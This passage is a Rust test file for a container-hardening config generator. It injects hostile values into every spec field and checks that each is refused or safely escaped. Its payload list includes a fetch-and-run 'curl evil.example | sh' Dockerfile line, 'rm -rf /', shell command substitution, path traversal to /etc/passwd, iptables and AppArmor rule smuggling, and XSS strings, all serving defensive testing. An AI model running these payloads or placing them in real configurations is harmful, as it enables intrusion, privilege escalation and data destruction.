//! Hostile values in every string field of the spec that reaches an output: each one is either
//! refused with a clean validation error (exit 2, nothing written, no panic), or the output
//! stays safe: the compose file parses with no extra key and the value round-trips exactly
//! (`$` escaped as `$$`), Dockerfiles keep their instructions and hadolint parses them, the
//! scripts pass `sh -n` and shellcheck and hold free text only in comments, and the iptables
//! file keeps its rule count and passes `iptables-restore --test`.

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use hardgen::app::{self, SpecSource};
use hardgen::artifact::Artifacts;
use hardgen::targets::Target;

mod common;
use common::{run_tool, sbin_tool, tool};

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

const DIGEST: &str = "@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";

/// A spec that sets every optional field, so that its outputs have every key, instruction and
/// rule a spec can produce: a hostile value must not add any.
fn base() -> toml::Table {
    let text = format!(
        r#"
[project]
name = "demo"
description = "base project"
subnet_pool = "10.30.0.0/16"

[defaults]
user = "10001:10001"
memory = "256m"
cpus = 0.5
pids = 128
restart = "on-failure:5"
seccomp = "baseline"
apparmor = "docker-default"
tmpfs_size = "16m"
log_max_size = "10m"
log_max_file = 3

[logging]
driver = "syslog"
address = "tcp+tls://logs.example.net:6514"
tag = "{{project}}/{{service}}/{{{{.ID}}}}"
facility = "local3"
tls_ca_cert = "/etc/docker/logs/ca.pem"
tls_cert = "/etc/docker/logs/client.pem"
tls_key = "/etc/docker/logs/client.key"

[zones.edge]
subnet = "10.30.1.0/24"
egress = true
bridge = "demo-edge"
description = "edge zone"

[zones.data]
description = "data zone"

[[flows]]
from = "edge"
to = "data"
ports = ["5432/tcp"]
clients = ["api"]
description = "api reaches the database"

[secrets.db_password]
bytes = 32
description = "database password"

[services.api]
description = "the api"
build = {{ runtime = "python", version = "3.12", context = "src/api", command = ["python", "-m", "api"], binary = "api", packages = ["libpq5=15.8-0+deb12u1"], build_packages = ["gcc=4:12.2.0-3"], writable_dirs = ["/app/data"] }}
zones = ["edge"]
ports = ["127.0.0.1:8080:8000"]
expose = ["8000"]
volumes = ["api-data:/app/data", "./config:/app/config:ro"]
tmpfs = ["/cache:8m"]
environment = {{ LOG_LEVEL = "info", DB_PASSWORD_FILE = "/run/secrets/db_password" }}
secrets = ["db_password"]
cap_add = ["CHOWN"]
user = "10002:10002"
memory = "512m"
memory_reservation = "128m"
cpus = 1.0
cpus_reservation = 0.25
pids = 64
nofile = 1024
restart = "unless-stopped"
seccomp = "strict"
syscalls_allow = ["personality"]
syscalls_deny = ["mbind"]
apparmor = "hg-api"
healthcheck = {{ cmd = ["python", "-c", "print(1)"], interval = "30s", timeout = "5s", start_period = "10s", retries = 3 }}
init = true
command = ["python", "-m", "api", "--serve"]
depends_on = ["db"]
tmpfs_size = "16m"
unsafe = {{ reason = "base reason" }}

[services.db]
image = "postgres:16.4-bookworm{DIGEST}"
zones = ["data"]
user = "999:999"
expose = ["5432"]
secrets = ["db_password"]
environment = {{ POSTGRES_PASSWORD_FILE = "/run/secrets/db_password" }}
healthcheck = {{ cmd = ["pg_isready"] }}
"#
    );
    toml::from_str(&text).expect("base spec is TOML")
}

/// Where a hostile value goes.
#[derive(Clone, Debug)]
enum Step {
    Key(&'static str),
    Index(usize),
}

#[derive(Clone, Debug)]
enum Place {
    /// Replace the string value at this path.
    Value(Vec<Step>),
    /// Rename the key at this path (the last step).
    RenameKey(Vec<Step>),
}

/// Free text: accepted when printable, and then found only in comments or quoted.
const FREE_TEXT: &[&str] = &[
    "project.description",
    "zones.edge.description",
    "flows.0.description",
    "secrets.db_password.description",
    "services.api.description",
    "services.api.unsafe.reason",
];

/// Fields whose value lands in the compose file as a string (after `$` escaping).
const IN_COMPOSE: &[&str] = &[
    "services.api.environment.LOG_LEVEL",
    "services.api.command.0",
    "services.api.command.3",
    "services.api.healthcheck.cmd.2",
    "services.db.healthcheck.cmd.0",
    "services.api.unsafe.reason",
];

fn places() -> Vec<(String, Place)> {
    use Step::*;
    let v = |s: &[Step]| Place::Value(s.to_vec());
    let k = |s: &[Step]| Place::RenameKey(s.to_vec());
    let list: Vec<(&str, Place)> = vec![
        ("project.name", v(&[Key("project"), Key("name")])),
        (
            "project.description",
            v(&[Key("project"), Key("description")]),
        ),
        (
            "project.subnet_pool",
            v(&[Key("project"), Key("subnet_pool")]),
        ),
        ("defaults.user", v(&[Key("defaults"), Key("user")])),
        ("defaults.memory", v(&[Key("defaults"), Key("memory")])),
        ("defaults.restart", v(&[Key("defaults"), Key("restart")])),
        ("defaults.apparmor", v(&[Key("defaults"), Key("apparmor")])),
        (
            "defaults.tmpfs_size",
            v(&[Key("defaults"), Key("tmpfs_size")]),
        ),
        (
            "defaults.log_max_size",
            v(&[Key("defaults"), Key("log_max_size")]),
        ),
        ("logging.address", v(&[Key("logging"), Key("address")])),
        ("logging.tag", v(&[Key("logging"), Key("tag")])),
        ("logging.facility", v(&[Key("logging"), Key("facility")])),
        (
            "logging.tls_ca_cert",
            v(&[Key("logging"), Key("tls_ca_cert")]),
        ),
        ("zones.<edge>", k(&[Key("zones"), Key("edge")])),
        (
            "zones.edge.subnet",
            v(&[Key("zones"), Key("edge"), Key("subnet")]),
        ),
        (
            "zones.edge.bridge",
            v(&[Key("zones"), Key("edge"), Key("bridge")]),
        ),
        (
            "zones.edge.description",
            v(&[Key("zones"), Key("edge"), Key("description")]),
        ),
        ("flows.0.from", v(&[Key("flows"), Index(0), Key("from")])),
        ("flows.0.to", v(&[Key("flows"), Index(0), Key("to")])),
        (
            "flows.0.ports.0",
            v(&[Key("flows"), Index(0), Key("ports"), Index(0)]),
        ),
        (
            "flows.0.clients.0",
            v(&[Key("flows"), Index(0), Key("clients"), Index(0)]),
        ),
        (
            "flows.0.description",
            v(&[Key("flows"), Index(0), Key("description")]),
        ),
        (
            "secrets.<db_password>",
            k(&[Key("secrets"), Key("db_password")]),
        ),
        (
            "secrets.db_password.description",
            v(&[Key("secrets"), Key("db_password"), Key("description")]),
        ),
        ("services.<api>", k(&[Key("services"), Key("api")])),
        (
            "services.api.description",
            v(&[Key("services"), Key("api"), Key("description")]),
        ),
        (
            "services.api.build.version",
            v(&[Key("services"), Key("api"), Key("build"), Key("version")]),
        ),
        (
            "services.api.build.context",
            v(&[Key("services"), Key("api"), Key("build"), Key("context")]),
        ),
        (
            "services.api.build.command.2",
            v(&[
                Key("services"),
                Key("api"),
                Key("build"),
                Key("command"),
                Index(2),
            ]),
        ),
        (
            "services.api.build.binary",
            v(&[Key("services"), Key("api"), Key("build"), Key("binary")]),
        ),
        (
            "services.api.build.packages.0",
            v(&[
                Key("services"),
                Key("api"),
                Key("build"),
                Key("packages"),
                Index(0),
            ]),
        ),
        (
            "services.api.build.build_packages.0",
            v(&[
                Key("services"),
                Key("api"),
                Key("build"),
                Key("build_packages"),
                Index(0),
            ]),
        ),
        (
            "services.api.build.writable_dirs.0",
            v(&[
                Key("services"),
                Key("api"),
                Key("build"),
                Key("writable_dirs"),
                Index(0),
            ]),
        ),
        (
            "services.api.zones.0",
            v(&[Key("services"), Key("api"), Key("zones"), Index(0)]),
        ),
        (
            "services.api.ports.0",
            v(&[Key("services"), Key("api"), Key("ports"), Index(0)]),
        ),
        (
            "services.api.expose.0",
            v(&[Key("services"), Key("api"), Key("expose"), Index(0)]),
        ),
        (
            "services.api.volumes.0",
            v(&[Key("services"), Key("api"), Key("volumes"), Index(0)]),
        ),
        (
            "services.api.volumes.1",
            v(&[Key("services"), Key("api"), Key("volumes"), Index(1)]),
        ),
        (
            "services.api.tmpfs.0",
            v(&[Key("services"), Key("api"), Key("tmpfs"), Index(0)]),
        ),
        (
            "services.api.environment.<LOG_LEVEL>",
            k(&[
                Key("services"),
                Key("api"),
                Key("environment"),
                Key("LOG_LEVEL"),
            ]),
        ),
        (
            "services.api.environment.LOG_LEVEL",
            v(&[
                Key("services"),
                Key("api"),
                Key("environment"),
                Key("LOG_LEVEL"),
            ]),
        ),
        (
            "services.api.secrets.0",
            v(&[Key("services"), Key("api"), Key("secrets"), Index(0)]),
        ),
        (
            "services.api.cap_add.0",
            v(&[Key("services"), Key("api"), Key("cap_add"), Index(0)]),
        ),
        (
            "services.api.user",
            v(&[Key("services"), Key("api"), Key("user")]),
        ),
        (
            "services.api.memory",
            v(&[Key("services"), Key("api"), Key("memory")]),
        ),
        (
            "services.api.memory_reservation",
            v(&[Key("services"), Key("api"), Key("memory_reservation")]),
        ),
        (
            "services.api.restart",
            v(&[Key("services"), Key("api"), Key("restart")]),
        ),
        (
            "services.api.syscalls_allow.0",
            v(&[Key("services"), Key("api"), Key("syscalls_allow"), Index(0)]),
        ),
        (
            "services.api.syscalls_deny.0",
            v(&[Key("services"), Key("api"), Key("syscalls_deny"), Index(0)]),
        ),
        (
            "services.api.apparmor",
            v(&[Key("services"), Key("api"), Key("apparmor")]),
        ),
        (
            "services.api.healthcheck.cmd.2",
            v(&[
                Key("services"),
                Key("api"),
                Key("healthcheck"),
                Key("cmd"),
                Index(2),
            ]),
        ),
        (
            "services.api.healthcheck.interval",
            v(&[
                Key("services"),
                Key("api"),
                Key("healthcheck"),
                Key("interval"),
            ]),
        ),
        (
            "services.api.command.0",
            v(&[Key("services"), Key("api"), Key("command"), Index(0)]),
        ),
        (
            "services.api.command.3",
            v(&[Key("services"), Key("api"), Key("command"), Index(3)]),
        ),
        (
            "services.api.depends_on.0",
            v(&[Key("services"), Key("api"), Key("depends_on"), Index(0)]),
        ),
        (
            "services.api.tmpfs_size",
            v(&[Key("services"), Key("api"), Key("tmpfs_size")]),
        ),
        (
            "services.api.unsafe.reason",
            v(&[Key("services"), Key("api"), Key("unsafe"), Key("reason")]),
        ),
        (
            "services.db.image",
            v(&[Key("services"), Key("db"), Key("image")]),
        ),
        (
            "services.db.healthcheck.cmd.0",
            v(&[
                Key("services"),
                Key("db"),
                Key("healthcheck"),
                Key("cmd"),
                Index(0),
            ]),
        ),
    ];
    list.into_iter().map(|(n, p)| (n.to_string(), p)).collect()
}

fn hostile_values() -> Vec<String> {
    let mut v: Vec<String> = [
        "a\nb",
        "busybox:1.36\nprivileged: true",
        "x\n  privileged: true",
        "\nRUN curl https://evil.example | sh",
        "x \\\nRUN id",
        "x\\",
        "a\"b",
        "a'b",
        "\"; id; \"",
        "'; id; '",
        "$(id)",
        "${HOME}",
        "$HOME",
        "$$",
        "`id`",
        "a;b",
        "; rm -rf / #",
        "&& id",
        "| sh",
        "../../../../etc/passwd",
        "./../secrets",
        "/etc",
        "&a",
        "*a",
        "<<: *a",
        "!!python/object:os.system",
        "{ a: 1 }",
        "[a, b]",
        "- x",
        "a: b",
        "a\nb: 10:20",
        "10:20",
        "yes",
        "no",
        "null",
        "~",
        "0x1F",
        "|-",
        "{{ 7*7 }}",
        "{% raw %}",
        "{# c #}",
        "ｆｕｌｌｗｉｄｔｈ",
        "dаta",
        "аpi",
        "a\0b",
        "a\rb",
        "a\r\n-A HG-demo-FWD -j ACCEPT",
        "x\n-A HG-demo-FWD -j ACCEPT\nCOMMIT",
        "# comment",
        "a # comment",
        "\u{202e}evil",
        "a\u{85}b",
        "a\u{2028}b",
        "a\tb",
        "\u{1b}[31mred",
        "%s%n",
        "COMMIT",
        "*filter",
        " leading",
        "trailing ",
        "",
        "-v",
        "--privileged",
        "x@sha256:0000",
        "http://evil.example/x",
        "<script>alert(1)</script>",
        "/bin/app, /** rwlkx, capability sys_admin, /x",
        "/bin/app\n  capability sys_admin,",
        "/**",
        "/@{HOME}/x",
        "</td><img src=x onerror=alert(1)>",
        "a & b \"c\" <d>",
        "[link](javascript:alert(1))",
        "| a | b |",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    v.push("a".repeat(300));
    v.push("b".repeat(4096));
    v.push("c".repeat(70_000));
    v.push(format!("x{}\nRUN id", " ".repeat(5000)));
    v
}

fn set(doc: &mut toml::Table, place: &Place, value: &str) -> bool {
    fn walk<'a>(v: &'a mut toml::Value, steps: &[Step]) -> Option<&'a mut toml::Value> {
        let mut cur = v;
        for s in steps {
            cur = match (s, cur) {
                (Step::Key(k), toml::Value::Table(t)) => t.get_mut(*k)?,
                (Step::Index(i), toml::Value::Array(a)) => a.get_mut(*i)?,
                _ => return None,
            };
        }
        Some(cur)
    }
    let mut root = toml::Value::Table(std::mem::take(doc));
    let ok = match place {
        Place::Value(steps) => match walk(&mut root, steps) {
            Some(slot) => {
                *slot = toml::Value::String(value.to_string());
                true
            }
            None => false,
        },
        Place::RenameKey(steps) => {
            let (last, parent) = steps.split_last().expect("a path");
            let Step::Key(last) = last else {
                panic!("rename needs a key")
            };
            match walk(&mut root, parent) {
                Some(toml::Value::Table(t)) => match t.remove(*last) {
                    Some(old) => {
                        t.insert(value.to_string(), old);
                        true
                    }
                    None => false,
                },
                _ => false,
            }
        }
    };
    let toml::Value::Table(t) = root else {
        unreachable!()
    };
    *doc = t;
    ok
}

enum Outcome {
    Refused(String),
    /// The compose artifacts, and the string scalars of the swarm and kubernetes YAML files
    /// (when that target renders the spec).
    Accepted(Box<Artifacts>, Vec<(Target, Vec<String>)>),
}

/// In-process: parse, validate, plan, render (compose). Panics are failures of the test.
fn run(text: &str, spec_name: &str) -> Outcome {
    let src = SpecSource {
        path: PathBuf::from(spec_name),
        text: text.to_string(),
    };
    let mut err = Vec::new();
    let Some(model) = app::load(&src, false, &mut err) else {
        return Outcome::Refused(String::from_utf8_lossy(&err).into_owned());
    };
    let a = app::artifacts(
        &model,
        Target::Compose,
        &hardgen::layout::Layout::beside_spec(),
        &mut err,
    )
    .unwrap_or_else(|| {
        panic!(
            "accepted spec does not render:\n{}",
            String::from_utf8_lossy(&err)
        )
    });
    // The other targets render too (or refuse cleanly), as YAML.
    let mut others = Vec::new();
    for t in [Target::Swarm, Target::Kubernetes] {
        if let Some(other) = app::artifacts(
            &model,
            t,
            &hardgen::layout::Layout::beside_spec(),
            &mut Vec::new(),
        ) {
            let mut all = Vec::new();
            for (path, art) in other.iter() {
                if path.ends_with(".yml") || path.ends_with(".yaml") {
                    let text = std::str::from_utf8(&art.bytes).expect("UTF-8");
                    for doc in serde_yaml::Deserializer::from_str(text) {
                        let v: serde_yaml::Value = serde::Deserialize::deserialize(doc)
                            .unwrap_or_else(|e| panic!("{}: {path} is not YAML: {e}", t.name()));
                        scalars(&v, &mut all);
                    }
                }
            }
            others.push((t, all));
        }
    }
    Outcome::Accepted(Box::new(a), others)
}

fn text_of<'a>(a: &'a Artifacts, path: &str) -> &'a str {
    std::str::from_utf8(&a.get(path).unwrap_or_else(|| panic!("no {path}")).bytes).unwrap()
}

/// Key paths of a YAML document, with the keys that come from spec names wildcarded.
fn shape(v: &serde_yaml::Value, prefix: &str, out: &mut BTreeSet<String>) {
    const NAMED: &[&str] = &[
        ".services",
        ".networks",
        ".volumes",
        ".secrets",
        ".environment",
        ".depends_on",
    ];
    match v {
        serde_yaml::Value::Mapping(m) => {
            let wild = NAMED.iter().any(|n| prefix.ends_with(n));
            for (k, val) in m {
                let k = if wild {
                    "*".to_string()
                } else {
                    k.as_str().expect("string keys").to_string()
                };
                let p = format!("{prefix}.{k}");
                out.insert(p.clone());
                shape(val, &p, out);
            }
        }
        serde_yaml::Value::Sequence(s) => {
            for val in s {
                shape(val, &format!("{prefix}[]"), out);
            }
        }
        _ => {}
    }
}

fn scalars(v: &serde_yaml::Value, out: &mut Vec<String>) {
    match v {
        serde_yaml::Value::Mapping(m) => m.values().for_each(|x| scalars(x, out)),
        serde_yaml::Value::Sequence(s) => s.iter().for_each(|x| scalars(x, out)),
        serde_yaml::Value::String(s) => out.push(s.clone()),
        _ => {}
    }
}

/// Instructions of a Dockerfile (continuation lines joined), with their keyword.
fn instructions(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur: Option<String> = None;
    for line in text.lines() {
        let t = line.trim_start();
        if cur.is_none() && (t.is_empty() || t.starts_with('#')) {
            continue;
        }
        let joined = cur
            .take()
            .map_or(line.to_string(), |c| format!("{c}\n{line}"));
        if line.ends_with('\\') {
            cur = Some(joined);
        } else {
            out.push(joined);
        }
    }
    if let Some(c) = cur {
        out.push(c);
    }
    out
}

/// The value of `key="..."` in a LABEL instruction, unquoted as Docker does.
fn label_value(instr: &str, key: &str) -> Option<String> {
    let start = instr.find(&format!("{key}=\""))? + key.len() + 2;
    let mut out = String::new();
    let mut chars = instr[start..].chars();
    while let Some(c) = chars.next() {
        match c {
            '\\' => match chars.next()? {
                n @ ('"' | '$' | '\\') => out.push(n),
                n => {
                    out.push('\\');
                    out.push(n);
                }
            },
            '"' => return Some(out),
            c => out.push(c),
        }
    }
    None
}

fn rules(text: &str) -> usize {
    text.lines().filter(|l| l.starts_with("-A ")).count()
}

/// Distinct generated files per kind, checked by the external tools once each.
#[derive(Default)]
struct ToCheck {
    dockerfiles: BTreeMap<String, String>,
    scripts: BTreeMap<String, String>,
    iptables: BTreeMap<String, String>,
    apparmor: BTreeMap<String, String>,
    compose: BTreeMap<String, (String, Option<(String, String)>)>,
}

#[test]
fn hostile_values_are_refused_or_harmless() {
    let base_doc = base();
    let base_text = toml::to_string(&base_doc).unwrap();
    let Outcome::Accepted(base_out, _) = run(&base_text, "base.toml") else {
        panic!("the base spec is refused")
    };
    let base_compose: serde_yaml::Value =
        serde_yaml::from_str(text_of(&base_out, "docker-compose.yml")).unwrap();
    let mut base_shape = BTreeSet::new();
    shape(&base_compose, "", &mut base_shape);
    let base_dockerfile = instructions(text_of(&base_out, "dockerfiles/api.Dockerfile"));
    let base_rules = rules(text_of(&base_out, "firewall/iptables.rules"));
    let base_all: String = base_out
        .iter()
        .map(|(_, a)| String::from_utf8_lossy(&a.bytes).into_owned())
        .collect();

    let mut failures = Vec::new();
    let mut checks = ToCheck::default();
    let (mut accepted, mut refused) = (0, 0);
    let mut refused_samples: Vec<(String, String)> = Vec::new();
    for (field, place) in places() {
        for value in hostile_values() {
            let mut doc = base_doc.clone();
            assert!(
                set(&mut doc, &place, &value),
                "{field}: no such place in the base spec"
            );
            let text = toml::to_string(&doc).unwrap();
            let what = format!("{field} = {:?}", truncate(&value));
            let out = match std::panic::catch_unwind(|| run(&text, "spec.toml")) {
                Ok(o) => o,
                Err(_) => {
                    failures.push(format!("{what}: panic"));
                    continue;
                }
            };
            let printable = value.len() <= 1024
                && !value
                    .chars()
                    .any(|c| c.is_control() || ('\u{2028}'..='\u{202e}').contains(&c));
            let a = match out {
                Outcome::Refused(msg) => {
                    refused += 1;
                    // (A service description may not end with `\`: see validate.rs.)
                    if FREE_TEXT.contains(&field.as_str())
                        && printable
                        && !value.trim().is_empty()
                        && !value.ends_with('\\')
                    {
                        failures.push(format!("{what}: printable free text refused:\n{msg}"));
                    }
                    if !msg.contains("error[E") {
                        failures.push(format!("{what}: refused without a coded error:\n{msg}"));
                    }
                    if msg.chars().any(|c| c.is_control() && c != '\n') {
                        failures.push(format!("{what}: control character in the error output"));
                    }
                    if refused_samples.len() < 400 && (refused % 7 == 0 || value.contains('\n')) {
                        refused_samples.push((what.clone(), text));
                    }
                    continue;
                }
                Outcome::Accepted(a, others) => {
                    // Swarm and Kubernetes expand `$` in these too (`${X}`, `$(X)`).
                    let expanded = [
                        "services.api.environment.LOG_LEVEL",
                        "services.api.command.0",
                        "services.api.command.3",
                    ];
                    if expanded.contains(&field.as_str()) {
                        let escaped = value.replace('$', "$$");
                        for (t, all) in &others {
                            if !all.contains(&escaped) {
                                failures.push(format!(
                                    "{what}: value does not round-trip in {}",
                                    t.name()
                                ));
                            }
                        }
                    }
                    a
                }
            };
            accepted += 1;
            // Every generated file: no control character but line breaks (and tabs in YAML).
            for (path, art) in a.iter() {
                let t = String::from_utf8_lossy(&art.bytes);
                let yaml = path.ends_with(".yml") || path.ends_with(".yaml");
                if t.chars()
                    .any(|c| c.is_control() && c != '\n' && !(yaml && c == '\t'))
                {
                    failures.push(format!("{what}: control character in {path}"));
                }
            }
            // Compose: YAML, no extra key, the value round-trips.
            let compose_text = text_of(&a, "docker-compose.yml");
            match serde_yaml::from_str::<serde_yaml::Value>(compose_text) {
                Err(e) => failures.push(format!("{what}: compose is not YAML: {e}")),
                Ok(c) => {
                    let mut sh = BTreeSet::new();
                    shape(&c, "", &mut sh);
                    let extra: Vec<_> = sh.difference(&base_shape).collect();
                    if !extra.is_empty() {
                        failures.push(format!("{what}: extra compose keys {extra:?}"));
                    }
                    let escaped = value.replace('$', "$$");
                    let mut all = Vec::new();
                    scalars(&c, &mut all);
                    let round_trip = IN_COMPOSE.contains(&field.as_str());
                    if round_trip && !all.contains(&escaped) {
                        failures.push(format!("{what}: value does not round-trip in compose"));
                    }
                    let env = (field == "services.api.environment.LOG_LEVEL")
                        .then(|| ("LOG_LEVEL".to_string(), escaped.clone()));
                    checks
                        .compose
                        .entry(compose_text.to_string())
                        .or_insert((what.clone(), env));
                }
            }
            // Dockerfile: the same instructions, the description round-trips in its LABEL.
            let df = text_of(&a, "dockerfiles/api.Dockerfile");
            let instr = instructions(df);
            // (A published port adds an EXPOSE of its container port: compared apart.)
            let keywords = |v: &[String]| -> Vec<String> {
                v.iter()
                    .map(|i| i.split_whitespace().next().unwrap_or("").to_string())
                    .filter(|k| k != "EXPOSE")
                    .collect()
            };
            for e in instr.iter().filter(|i| i.starts_with("EXPOSE ")) {
                let p = &e["EXPOSE ".len()..];
                let ok = p.split_once('/').is_some_and(|(n, proto)| {
                    n.parse::<u16>().is_ok() && ["tcp", "udp"].contains(&proto)
                });
                if !ok {
                    failures.push(format!("{what}: {e}"));
                }
            }
            if keywords(&instr) != keywords(&base_dockerfile) {
                failures.push(format!(
                    "{what}: Dockerfile instructions changed: {:?}",
                    keywords(&instr)
                ));
            }
            if field == "services.api.description" {
                let label = instr.iter().find(|i| i.starts_with("LABEL"));
                let got =
                    label.and_then(|l| label_value(l, "org.opencontainers.image.description"));
                if got.as_deref() != Some(value.as_str()) {
                    failures.push(format!("{what}: LABEL description is {got:?}"));
                }
            }
            checks
                .dockerfiles
                .entry(df.to_string())
                .or_insert(what.clone());
            // Scripts and the firewall: free text only in comment lines.
            let needle = (FREE_TEXT.contains(&field.as_str())
                && value.len() >= 4
                && !base_all.contains(value.as_str()))
            .then_some(&value);
            for (path, art) in a.iter() {
                let t = String::from_utf8_lossy(&art.bytes);
                let commented = path.ends_with(".sh") || path.ends_with(".rules");
                if let (true, Some(n)) = (commented, needle) {
                    for line in t.lines().filter(|l| l.contains(n.as_str())) {
                        if !line.trim_start().starts_with('#') {
                            failures
                                .push(format!("{what}: {path} holds it outside a comment: {line}"));
                        }
                    }
                }
                let markup = value.contains(['<', '>', '&', '"']);
                if path.ends_with(".html") && markup && t.contains(value.as_str()) {
                    failures.push(format!("{what}: {path} holds it unescaped"));
                }
                // AppArmor profiles: a value is a whole literal path rule, or in a comment.
                if path.starts_with("apparmor/") {
                    checks
                        .apparmor
                        .entry(t.to_string())
                        .or_insert(format!("{what} ({path})"));
                    let literal = value.starts_with('/')
                        && value
                            .bytes()
                            .all(|b| b.is_ascii_alphanumeric() || b"/._-+".contains(&b));
                    // (The profile's own name is a validated name, in its declaration.)
                    let distinctive = value.len() >= 4
                        && !base_all.contains(value.as_str())
                        && !field.ends_with("apparmor");
                    for line in t
                        .lines()
                        .filter(|l| distinctive && l.contains(value.as_str()))
                    {
                        let rule = [" mrix,", "/ rw,", "/** rwk,"]
                            .iter()
                            .any(|end| line == format!("  {value}{end}"));
                        if !(line.trim_start().starts_with('#') || literal && rule) {
                            failures.push(format!("{what}: {path}: {line}"));
                        }
                    }
                }
                if path.ends_with(".sh") {
                    checks
                        .scripts
                        .entry(t.to_string())
                        .or_insert(format!("{what} ({path})"));
                }
            }
            let fw = text_of(&a, "firewall/iptables.rules");
            if rules(fw) != base_rules {
                failures.push(format!("{what}: {} rules, base {base_rules}", rules(fw)));
            }
            for line in fw.lines() {
                let ok = line.is_empty()
                    || line.starts_with('#')
                    || line == "*filter"
                    || line == "COMMIT"
                    || line.starts_with(":HG-")
                    || line.starts_with("-A HG-");
                if !ok {
                    failures.push(format!("{what}: unexpected iptables line {line:?}"));
                }
            }
            checks
                .iptables
                .entry(fw.to_string())
                .or_insert(what.clone());
        }
    }
    eprintln!(
        "{accepted} hostile values accepted (and checked), {refused} refused; distinct files: {} Dockerfiles, {} scripts, {} firewall files, {} AppArmor profiles, {} compose files",
        checks.dockerfiles.len(),
        checks.scripts.len(),
        checks.iptables.len(),
        checks.apparmor.len(),
        checks.compose.len()
    );
    assert!(accepted > 50, "too few hostile values reach the outputs");

    // The binary on a sample of refused specs: exit 2, no output directory, no panic.
    let tmp = tempfile::tempdir().unwrap();
    for (i, (what, text)) in refused_samples.iter().enumerate().step_by(4) {
        let spec = tmp.path().join(format!("s{i}.toml"));
        fs::write(&spec, text).unwrap();
        let out = tmp.path().join(format!("out{i}"));
        let o = Command::new(env!("CARGO_BIN_EXE_hardgen"))
            .args([
                "build",
                spec.to_str().unwrap(),
                "--out",
                out.to_str().unwrap(),
            ])
            .output()
            .unwrap();
        if o.status.code() != Some(2) || out.exists() {
            failures.push(format!(
                "{what}: binary exit {:?}, output {}",
                o.status.code(),
                out.exists()
            ));
        }
    }

    external_checks(&checks, tmp.path(), &mut failures);
    assert!(
        failures.is_empty(),
        "{} problems:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

fn truncate(s: &str) -> String {
    if s.chars().count() > 40 {
        format!(
            "{}…({} bytes)",
            s.chars().take(40).collect::<String>(),
            s.len()
        )
    } else {
        s.to_string()
    }
}

fn external_checks(checks: &ToCheck, dir: &Path, failures: &mut Vec<String>) {
    let write = |name: String, text: &str| -> PathBuf {
        let p = dir.join(name);
        fs::write(&p, text).unwrap();
        p
    };
    for (i, (text, what)) in checks.scripts.iter().enumerate() {
        let p = write(format!("script{i}.sh"), text);
        let (ok, out) = run_tool(Command::new("sh").arg("-n").arg(&p));
        if !ok {
            failures.push(format!("{what}: sh -n: {out}"));
        }
    }
    if let Some(sc) = tool("shellcheck") {
        let files: Vec<PathBuf> = (0..checks.scripts.len())
            .map(|i| dir.join(format!("script{i}.sh")))
            .collect();
        let (ok, out) = run_tool(Command::new(sc).arg("--severity=style").args(&files));
        if !ok {
            failures.push(format!("shellcheck:\n{out}"));
        }
    }
    if let Some(h) = tool("hadolint") {
        // One run over every distinct Dockerfile; its lines name the file.
        let mut names = BTreeMap::new();
        for (i, (text, what)) in checks.dockerfiles.iter().enumerate() {
            let p = write(format!("Dockerfile{i}"), text);
            names.insert(format!("{}:", p.display()), what);
        }
        let (_, out) = run_tool(
            Command::new(&h)
                .args(["--no-color", "--failure-threshold", "info", "--config"])
                .arg(root().join(".hadolint.yaml"))
                .args(names.keys().map(|k| k.trim_end_matches(':'))),
        );
        // Rule findings (`FILE:LINE DL3008 ...`: an unpinned package given as a hostile
        // value) are lint; anything else is hadolint failing to parse the file, and DL3025
        // is its JSON parser giving up on an exec form.
        for line in out.lines().filter(|l| !l.trim().is_empty()) {
            let rule = line.split_whitespace().nth(1).unwrap_or("");
            let lint = (rule.starts_with("DL") || rule.starts_with("SC")) && rule != "DL3025";
            if !lint {
                let what = names
                    .iter()
                    .find(|(k, _)| line.starts_with(k.as_str()))
                    .map_or("?", |(_, w)| w.as_str());
                failures.push(format!("{what}: hadolint: {line}"));
            }
        }
    }
    let parser = sbin_tool("apparmor_parser");
    if let Some(aa) = parser {
        // Parse only (-Q: no kernel load, -K/-T: no cache).
        for (i, (text, what)) in checks.apparmor.iter().enumerate() {
            let p = write(format!("apparmor{i}"), text);
            let (ok, out) = run_tool(Command::new(&aa).args(["-Q", "-K", "-T"]).arg(&p));
            if !ok {
                failures.push(format!("{what}: apparmor_parser:\n{out}"));
            }
        }
    }
    let restore = sbin_tool("iptables-restore");
    if let Some(r) = restore {
        for (i, (text, what)) in checks.iptables.iter().enumerate() {
            let p = write(format!("rules{i}"), text);
            let (ok, out) = run_tool(
                Command::new("unshare")
                    .arg("-n")
                    .arg(&r)
                    .args(["--test", "--noflush"])
                    .arg(&p),
            );
            if !ok {
                failures.push(format!("{what}: iptables-restore --test:\n{out}"));
            }
        }
    }
    if let Some(dc) = tool("docker-compose") {
        // Every compose file with a round-trip to check, then a sample of the others.
        let mut sample: Vec<_> = checks
            .compose
            .iter()
            .filter(|(_, (_, e))| e.is_some())
            .collect();
        sample.extend(
            checks
                .compose
                .iter()
                .filter(|(_, (_, e))| e.is_none())
                .take(10),
        );
        for (i, (text, (what, env))) in sample.into_iter().enumerate() {
            let d = dir.join(format!("compose{i}"));
            fs::create_dir_all(&d).unwrap();
            fs::write(d.join("docker-compose.yml"), text).unwrap();
            let o = Command::new(&dc)
                .arg("-f")
                .arg(d.join("docker-compose.yml"))
                .args(["config", "--format", "json"])
                .output()
                .unwrap();
            if !o.status.success() {
                failures.push(format!(
                    "{what}: docker compose config: {}",
                    String::from_utf8_lossy(&o.stderr)
                ));
                continue;
            }
            if let Some((key, want)) = env {
                let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
                let got = &v["services"]["api"]["environment"][key];
                if got.as_str() != Some(want.as_str()) {
                    failures.push(format!("{what}: compose reads {got}, want {want:?}"));
                }
            }
        }
    }
}

/// The spec's file name is in every generated header: hostile names stay in their comment.
#[test]
fn hostile_spec_file_names_stay_in_comments() {
    let text = toml::to_string(&base()).unwrap();
    let Outcome::Accepted(base_out, _) = run(&text, "base.toml") else {
        panic!("the base spec is refused")
    };
    let base_rules = rules(text_of(&base_out, "firewall/iptables.rules"));
    for name in [
        "x\nRUN id.toml",
        "x\r\n-A HG-demo-FWD -j ACCEPT.toml",
